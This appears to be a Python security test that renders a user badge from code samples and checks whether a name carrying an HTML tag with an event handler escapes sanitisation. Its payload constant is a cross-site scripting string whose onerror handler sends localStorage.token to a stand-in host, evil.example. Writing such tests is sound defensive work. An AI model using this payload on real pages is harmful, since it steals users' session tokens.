"""A user's name that is a tag with a handler (steps 1 to 3).

samples: bad 1, good 2
"""

from html.parser import HTMLParser
from types import SimpleNamespace

from attack import attack, load, quoted, use

sample = load()
PAYLOAD = quoted("""<img src=x onerror="fetch('https://evil.example/'+localStorage.token)">""")


class Handlers(HTMLParser):
    """The event handlers of a page, as a browser's parser would find them."""

    def __init__(self, page):
        super().__init__()
        self.found, self.text = [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        """Notes handlers."""
        self.found += [value for name, value in attributes if name.startswith("on")]

    def handle_data(self, data):
        """Notes what a reader sees."""
        self.text += data


def show(name):
    """The badge in a page."""
    return Handlers(str(sample.badge(SimpleNamespace(name=name))))


use([show(name).text for name in ("Anna", "O'Brien")])
page = show(PAYLOAD)
attack(page.found == ["fetch('https://evil.example/'+localStorage.token)"], (page.found, page.text))
